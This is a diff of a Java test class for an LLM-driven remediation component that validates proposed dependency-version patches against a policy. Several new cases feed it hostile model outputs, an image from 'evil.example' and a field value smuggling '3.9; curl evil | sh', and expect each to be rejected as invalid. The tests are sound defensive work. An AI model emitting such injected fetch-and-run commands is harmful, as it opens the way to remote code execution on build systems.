@@ -130,8 +130,21 @@ class LlmBrainOpenAiTest {
     Diagnosis diagnosis = brain(Map.of()).diagnose(Snapshots.oomKilled(), Snapshots.articlePolicy());
 
     assertThat(diagnosis.action()).isEqualTo(Action.PATCH_DEPENDENCY_VERSION);
-    assertThat(diagnosis.arguments()).isEqualTo(Map.of("pin", "NODE_VERSION", "newValue", "18.19.0"));
+    assertThat(diagnosis.arguments())
+        .isEqualTo(Map.of("container", "build", "pin", "NODE_VERSION", "newValue", "18.19.0"));
     assertThat(Wire.openAiSent(server.requests().get(0).body()).user()).contains("version pins: NODE_VERSION=18.19.1");
+  }
+
+  @Test
+  void anImageProposalNamesAnotherTagOfTheSameRepository() {
+    server.enqueue(Reply.ok(Wire.openAiToolCalls(700, 30, call("patch_dependency_version",
+        "{\"container\":\"build\",\"newValue\":\"maven:3.9.5-eclipse-temurin-17\",\"category\":\"dependency_version\","
+            + "\"confidence\":0.8,\"reason\":\"3.9.6 broke the build\"}"))));
+
+    Diagnosis diagnosis = brain(Map.of()).diagnose(Snapshots.oomKilled(), Snapshots.articlePolicy());
+
+    assertThat(diagnosis.arguments())
+        .isEqualTo(Map.of("container", "build", "newValue", "maven:3.9.5-eclipse-temurin-17"));
   }
 
   static Stream<Arguments> unusableAnswers() {
@@ -176,16 +189,31 @@ class LlmBrainOpenAiTest {
                 "{\"pin\":\"PATH\",\"newValue\":\"1.0\",\"category\":\"dependency_version\",\"confidence\":0.8,"
                     + "\"reason\":\"x\"}"))),
             "invalid_arguments", "pin 'PATH' is not one of the policy's version pins"),
-        Arguments.of("both container and pin", article,
+        Arguments.of("pin the container does not set", article,
             Reply.ok(Wire.openAiToolCalls(800, 30, call("patch_dependency_version",
-                "{\"pin\":\"NODE_VERSION\",\"container\":\"build\",\"newValue\":\"18.19.0\","
+                "{\"pin\":\"NODE_VERSION\",\"container\":\"sidecar\",\"newValue\":\"18.19.0\","
                     + "\"category\":\"dependency_version\",\"confidence\":0.8,\"reason\":\"x\"}"))),
-            "invalid_arguments", "set exactly one of container and pin"),
+            "invalid_arguments", "no container of the run sets NODE_VERSION as a plain value"),
+        Arguments.of("pin set to its current value", article,
+            Reply.ok(Wire.openAiToolCalls(800, 30, call("patch_dependency_version",
+                "{\"pin\":\"NODE_VERSION\",\"newValue\":\"18.19.1\","
+                    + "\"category\":\"dependency_version\",\"confidence\":0.8,\"reason\":\"x\"}"))),
+            "invalid_arguments", "newValue 18.19.1 is the current value of NODE_VERSION"),
+        Arguments.of("image of another repository", article,
+            Reply.ok(Wire.openAiToolCalls(800, 30, call("patch_dependency_version",
+                "{\"container\":\"build\",\"newValue\":\"evil.example/maven:3.9\",\"category\":\"dependency_version\","
+                    + "\"confidence\":0.8,\"reason\":\"x\"}"))),
+            "invalid_arguments", "newValue evil.example/maven:3.9 is not another tag or digest of maven:3.9.6"),
         Arguments.of("image value with a shell in it", article,
             Reply.ok(Wire.openAiToolCalls(800, 30, call("patch_dependency_version",
                 "{\"container\":\"build\",\"newValue\":\"3.9; curl evil | sh\",\"category\":\"dependency_version\","
                     + "\"confidence\":0.8,\"reason\":\"x\"}"))),
-            "invalid_arguments", "is not an image tag or digest"),
+            "invalid_arguments", "is not an image reference"),
+        Arguments.of("image without a container", article,
+            Reply.ok(Wire.openAiToolCalls(800, 30, call("patch_dependency_version",
+                "{\"newValue\":\"maven:3.9.5\",\"category\":\"dependency_version\",\"confidence\":0.8,"
+                    + "\"reason\":\"x\"}"))),
+            "invalid_arguments", "patch_dependency_version: container is missing"),
         Arguments.of("real tool the policy does not allow", Snapshots.retryOnly(),
             Reply.ok(Wire.openAiToolCalls(800, 30, call("increase_memory", OOM_ARGS))),
             "disallowed_tool", "llm fallback: tool 'increase_memory' is not allowed by the policy"),
